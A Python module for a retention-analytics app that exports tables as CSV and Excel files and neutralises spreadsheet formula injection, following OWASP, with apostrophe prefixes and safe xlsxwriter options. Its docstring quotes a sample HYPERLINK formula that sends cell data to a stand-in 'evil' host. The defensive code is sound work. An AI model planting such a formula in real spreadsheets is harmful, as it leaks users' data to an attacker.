"""Tables leaving the app as CSV or Excel files, safe to open in a spreadsheet.

Customer names, products and free-text attributes come from uploaded files, so a cell may hold
``=HYPERLINK("http://evil/?"&A1, "Click")`` or ``@SUM(...)``: a spreadsheet runs it when the
export is opened (CSV/formula injection). Following OWASP, every *text* cell (and header) that
starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return gets a leading apostrophe, which
spreadsheets read as "this is text". Numbers and dates are left alone: ``-5`` stays a number.
The apostrophe is visible in the CSV, which is the price of safety in a format with no types.

Neither file carries the DataFrame index; call ``reset_index()`` first to keep it.

A table that a page shows is described once, as a :class:`TableSpec` (a list of
:class:`Column` s: source column, title, kind). The page's ``st.dataframe`` and both downloads
are made from it, so they cannot drift: the same titles (with the currency sign or ``%``),
counts as whole numbers, money rounded to the currency's cents, shares as the percentages the
page shows, and empty cells where a value is missing. Only the command line keeps machine
names and full precision, for scripts.
"""

from __future__ import annotations

import datetime as dt
import io
import re
from collections.abc import Collection, Iterable
from dataclasses import dataclass
from typing import Literal, get_args

import pandas as pd
from pandas.api.types import is_string_dtype

from retention.formatting import currency_symbol, money_decimals
from retention.i18n import t

# OWASP CSV-injection trigger characters.
FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")

# Characters Excel forbids in a sheet name; names are at most 31 characters.
_SHEET_NAME_FORBIDDEN = re.compile(r"[\[\]:*?/\\]")
_SHEET_NAME_MAX = 31


def _neutralise_text(value: object) -> object:
    if isinstance(value, str) and value.startswith(FORMULA_PREFIXES):
        return "'" + value
    return value


def _neutralise_column(column: pd.Series) -> pd.Series:
    """A text column with risky cells prefixed; any other column unchanged."""
    if isinstance(column.dtype, pd.CategoricalDtype):
        # Prefixing categories could collide ("=a" next to "'=a"); plain values cannot.
        column = column.astype(object)
    if not is_string_dtype(column.dtype):  # object and str dtypes only
        return column
    # Element-wise on purpose: an object column may mix text with numbers and dates, and only
    # the text is at risk.
    risky = column.map(
        lambda value: isinstance(value, str) and value.startswith(FORMULA_PREFIXES)
    ).astype(bool)
    if not risky.any():
        return column
    neutralised = column.copy()
    neutralised[risky] = "'" + column[risky].astype(str)
    return neutralised


def neutralise_formulas(df: pd.DataFrame, verbatim: Collection[str] = ()) -> pd.DataFrame:
    """A copy of ``df`` in which text cells and headers that a spreadsheet would run as a
    formula start with an apostrophe.

    In: any DataFrame. Out: same shape, dtypes and index; only text cells starting with one of
    :data:`FORMULA_PREFIXES` change (``"=SUM(A1)"`` -> ``"'=SUM(A1)"``). Numeric, boolean and
    date columns, and non-text values inside object columns, are untouched. Categorical
    columns come back as object columns. ``verbatim`` names columns whose cells the caller has
    validated and that import tools need as they are (E.164 phones, ``+`` and digits only):
    their cells are left alone, their headers are not.
    """
    out = df.copy()
    for position in range(out.shape[1]):
        if out.columns[position] in verbatim:
            continue
        # pandas-stubs leaves Series out of isetitem's value types; pandas takes one
        out.isetitem(position, _neutralise_column(out.iloc[:, position]))  # type: ignore[arg-type]
    if isinstance(out.columns, pd.MultiIndex):
        out.columns = pd.MultiIndex.from_tuples(
            [tuple(_neutralise_text(part) for part in key) for key in out.columns],
            names=out.columns.names,
        )
    else:
        out.columns = pd.Index([_neutralise_text(name) for name in out.columns])
    return out


ColumnKind = Literal[
    "text", "count", "money", "percent", "share", "number", "date", "month", "datetime", "flag"
]
COLUMN_KINDS: tuple[str, ...] = get_args(ColumnKind)
# Digits after the decimal point when a Column does not say; money follows its currency.
DEFAULT_DECIMALS = {"percent": 1, "share": 1, "number": 2}
# Kinds whose numbers carry decimals, written with exactly that many in a CSV.
_DECIMAL_KINDS = ("money", "percent", "share", "number")
_XLSX_DATE_FORMATS = {"date": "yyyy-mm-dd", "datetime": "yyyy-mm-dd hh:mm"}
_XLSX_MAX_WIDTH = 60


@dataclass(frozen=True)
class Column:
    """One column of a shown table: where its values come from, its title, and what they are.

    ``kind``:

    * ``text`` — as it is (formula-neutralised on the way out);
    * ``count`` — a whole number (``8``, never ``8.0``);
    * ``money`` — an amount in the table's currency, rounded to its cents; the title gets the
      currency sign, ``"Net revenue (₽)"``;
    * ``percent`` — a value already in percent (CRR 45.3), ``share`` — a share of one (0.453)
      shown and exported as the percentage 45.3; both get ``" (%)"`` in the title unless it
      names the unit already ("% of buyers");
    * ``number`` — any other number, with ``decimals`` digits (2 unless given);
    * ``date`` (a day), ``month`` (shown and exported as ``YYYY-MM``), ``datetime``;
    * ``flag`` — yes or no (a checkbox on screen, "Yes"/"No" in the files).

    ``decimals`` overrides the kind's digits (percent and share: 1). ``help`` is the header's
    tooltip on screen; ``width`` its width there (``"small"``, ``"medium"``, ``"large"``);
    ``bar`` draws a share as a bar from 0 to 100%.
    """

    source: str
    title: str
    kind: ColumnKind = "text"
    decimals: int | None = None
    help: str | None = None
    width: Literal["small", "medium", "large"] | None = None
    bar: bool = False

    def __post_init__(self) -> None:
        if self.kind not in COLUMN_KINDS:
            raise ValueError(f"Column {self.source!r}: kind must be one of "
                             f"{', '.join(COLUMN_KINDS)}, got {self.kind!r}.")
        if self.decimals is not None and self.decimals < 0:
            raise ValueError(f"Column {self.source!r}: decimals must be 0 or more, "
                             f"got {self.decimals}.")


@dataclass(frozen=True)
class TableSpec:
    """A shown table: its columns in order, the currency its money is in, the locale of the
    currency sign in the titles.

    ``shown(frame)`` is what the page hands to ``st.dataframe`` (source column names, values
    rounded and scaled as displayed); ``exported(frame)`` is what the downloads write (the
    same values under the titles). Columns of the frame that the spec does not list are left
    out of both.
    """

    columns: tuple[Column, ...]
    currency: str | None = None
    locale: str = "en"

    def __post_init__(self) -> None:
        object.__setattr__(self, "columns", tuple(self.columns))
        sources = [column.source for column in self.columns]
        repeated = sorted({source for source in sources if sources.count(source) > 1})
        if repeated:
            raise ValueError(f"A table lists columns more than once: {', '.join(repeated)}.")

    def select(self, sources: Iterable[str]) -> TableSpec:
        """The spec of the named columns only, in that order (KeyError for an unknown one)."""
        sources = list(sources)
        by_source = {column.source: column for column in self.columns}
        missing = [source for source in sources if source not in by_source]
        if missing:
            raise KeyError(f"The table has no column {', '.join(map(repr, missing))}.")
        return TableSpec(tuple(by_source[source] for source in sources), self.currency,
                         self.locale)

    def header(self, column: Column) -> str:
        """The column's title with its unit: ``"Net revenue (₽)"``, ``"Repeat share (%)"``."""
        if column.kind == "money":
            symbol = currency_symbol(self.currency, self.locale)
            return f"{column.title} ({symbol})" if symbol else column.title
        if column.kind in ("percent", "share") and "%" not in column.title:
            return f"{column.title} (%)"
        return column.title

    def headers(self) -> list[str]:
        """Every column's :meth:`header`, in order."""
        return [self.header(column) for column in self.columns]

    def decimals(self, column: Column) -> int:
        """Digits after the decimal point of the column's numbers (0 for counts and others)."""
        if column.kind == "money":
            return money_decimals(self.currency) if column.decimals is None else column.decimals
        if column.decimals is not None:
            return column.decimals
        return DEFAULT_DECIMALS.get(column.kind, 0)

    def shown(self, frame: pd.DataFrame) -> pd.DataFrame:
        """The listed columns of ``frame``, in order, with values as the page shows them.

        Counts become Int64, money, percent and number columns are rounded (Float64), shares
        are multiplied by 100 and rounded, dates become ``datetime.date`` (months: their first
        day), flags nullable booleans. Missing values stay missing (NA or None). Raises a
        KeyError naming the columns ``frame`` lacks. The index is dropped.
        """
        absent = [c.source for c in self.columns if c.source not in frame.columns]
        if absent:
            raise KeyError(f"The table's data has no column {', '.join(map(repr, absent))}; "
                           f"it has {', '.join(map(repr, frame.columns))}.")
        data = {c.source: _shown_values(frame[c.source], c, self.decimals(c))
                for c in self.columns}
        return pd.DataFrame(data, columns=[c.source for c in self.columns]).reset_index(
            drop=True)

    def exported(self, frame: pd.DataFrame) -> pd.DataFrame:
        """:meth:`shown` under the :meth:`headers`, months as ``YYYY-MM`` text and flags as
        "Yes" / "No": the table as both downloads write it."""
        shown = self.shown(frame)
        out = pd.DataFrame(index=shown.index)
        for position, column in enumerate(self.columns):
            values = shown.iloc[:, position]
            if column.kind == "month":
                values = pd.Series([_month_text(v) for v in values], index=shown.index,
                                   dtype=object)
            elif column.kind == "flag":
                values = values.map({True: t("Yes"), False: t("No")}).astype(object)
            out.insert(position, self.header(column), values, allow_duplicates=True)
        return out


def _shown_values(values: pd.Series, column: Column, decimals: int) -> pd.Series:
    kind = column.kind
    if kind == "count":
        return pd.to_numeric(values).astype("Float64").round(0).astype("Int64")
    if kind in _DECIMAL_KINDS:
        numbers = pd.to_numeric(values).astype("Float64")
        if kind == "share":
            numbers = numbers * 100
        return numbers.round(decimals)
    if kind in ("date", "month"):
        days = pd.to_datetime(values)
        if isinstance(days.dtype, pd.DatetimeTZDtype):
            days = days.dt.tz_localize(None)
        if kind == "month":
            days = days.dt.to_period("M").dt.start_time
        return days.dt.date.astype(object).where(days.notna(), None)
    if kind == "datetime":
        return pd.to_datetime(values)
    if kind == "flag":
        return values.astype("boolean")
    if isinstance(values.dtype, pd.CategoricalDtype):
        return values.astype(object)
    return values


def _month_text(value: object) -> str | None:
    return value.strftime("%Y-%m") if isinstance(value, dt.date) else None


def _fixed_decimals(frame: pd.DataFrame, spec: TableSpec) -> pd.DataFrame:
    """The exported frame with each decimal column as text with exactly its digits
    (``80.96``, ``1800.00``, ``45.0``), so a CSV shows money to the cent; missing stays
    empty."""
    out = frame.copy()
    for position, column in enumerate(spec.columns):
        if column.kind in _DECIMAL_KINDS:
            pattern = f"{{:.{spec.decimals(column)}f}}"
            # pandas-stubs leaves Series out of isetitem's value types; pandas takes one
            out.isetitem(position, frame.iloc[:, position].astype(object).map(  # type: ignore[arg-type]
                lambda v, p=pattern: None if pd.isna(v) else p.format(v)))
    return out


def to_csv_bytes(df: pd.DataFrame, sep: str = ",", spec: TableSpec | None = None,
                 verbatim: Collection[str] = ()) -> bytes:
    """``df`` as a neutralised CSV file: UTF-8 with a byte-order mark, CRLF line ends.

    With a ``spec``, the file holds the table as the page shows it (:meth:`TableSpec.exported`:
    titles with units, whole counts, money with exactly its currency's decimals, shares as
    percentages, empty cells for missing values); without one, ``df`` as it is. Numbers are
    written with a decimal point and no grouping, so a spreadsheet reads them as numbers.

    The BOM makes Excel read Cyrillic and other non-Latin text correctly instead of guessing a
    legacy code page. Excel in a Russian locale expects ``;`` as the separator; pass
    ``sep=";"`` for files meant for it. ``verbatim``: as for :func:`neutralise_formulas`
    (without a ``spec``).
    """
    if spec is None:
        frame = neutralise_formulas(df, verbatim)
    else:
        # Neutralised before the numbers become text, so "-5.00" is not taken for a formula.
        frame = _fixed_decimals(neutralise_formulas(spec.exported(df)), spec)
    text = frame.to_csv(index=False, sep=sep, lineterminator="\r\n")
    return text.encode("utf-8-sig")


def _excel_sheet_name(name: str) -> str:
    cleaned = _SHEET_NAME_FORBIDDEN.sub("_", name).strip("'")[:_SHEET_NAME_MAX]
    return cleaned or "data"


def _without_timezones(df: pd.DataFrame) -> pd.DataFrame:
    """Excel has no time zones: keep each timestamp's wall-clock time and drop the zone."""
    out = df
    for position in range(df.shape[1]):
        column = df.iloc[:, position]
        if isinstance(column.dtype, pd.DatetimeTZDtype):
            if out is df:
                out = df.copy()
            out.isetitem(position, column.dt.tz_localize(None))
    return out


def to_xlsx_bytes(df: pd.DataFrame, sheet_name: str = "data",
                  spec: TableSpec | None = None, verbatim: Collection[str] = ()) -> bytes:
    """``df`` as a neutralised Excel workbook with one sheet and a header row.

    With a ``spec``, the sheet holds :meth:`TableSpec.exported` — the page's titles and
    rounded values — as numbers with a display format per kind (``#,##0`` for counts,
    ``#,##0.00`` for money, ``0.0`` for percentages, ``yyyy-mm-dd`` for days) and columns as
    wide as their titles; without one, ``df`` as it is.

    xlsxwriter's ``strings_to_formulas`` is off so no text becomes a formula, and
    ``strings_to_urls`` is off so uploaded text never becomes a clickable link. NaN is written
    as an empty cell, infinity as the text ``inf``, time-zone-aware timestamps as their local
    wall-clock time. ``sheet_name`` is cleaned of the characters Excel forbids and cut to 31
    characters. Excel holds at most 1,048,576 rows; pandas raises a ValueError beyond that.
    ``verbatim``: as for :func:`neutralise_formulas` (without a ``spec``); their text stays
    text cells (``strings_to_numbers`` is off), so ``+97688123456`` is never a number.
    """
    frame = df if spec is None else spec.exported(df)
    buffer = io.BytesIO()
    options = {"strings_to_formulas": False, "strings_to_urls": False}
    name = _excel_sheet_name(sheet_name)
    with pd.ExcelWriter(buffer, engine="xlsxwriter", engine_kwargs={"options": options},
                        date_format=_XLSX_DATE_FORMATS["date"],
                        datetime_format=_XLSX_DATE_FORMATS["datetime"]) as writer:
        kept = verbatim if spec is None else ()
        _without_timezones(neutralise_formulas(frame, kept)).to_excel(
            writer, sheet_name=name, index=False
        )
        if spec is not None:
            _format_sheet(writer, name, spec)
    return buffer.getvalue()


def _excel_number_format(spec: TableSpec, column: Column) -> str | None:
    decimals = spec.decimals(column)
    fraction = "." + "0" * decimals if decimals else ""
    if column.kind in ("count", "money", "number"):
        return f"#,##0{fraction}"
    if column.kind in ("percent", "share"):
        return f"0{fraction}"
    return _XLSX_DATE_FORMATS.get(column.kind)


def _format_sheet(writer: pd.ExcelWriter, sheet_name: str, spec: TableSpec) -> None:
    """Number formats and widths per column (cells pandas formats itself, dates, keep theirs)."""
    workbook = writer.book
    sheet = writer.sheets[sheet_name]
    for position, (column, header) in enumerate(zip(spec.columns, spec.headers(),
                                                    strict=True)):
        number_format = _excel_number_format(spec, column)
        cell_format = workbook.add_format({"num_format": number_format}) if number_format else None
        width = min(max(len(header), 10) + 2, _XLSX_MAX_WIDTH)
        sheet.set_column(position, position, width, cell_format)
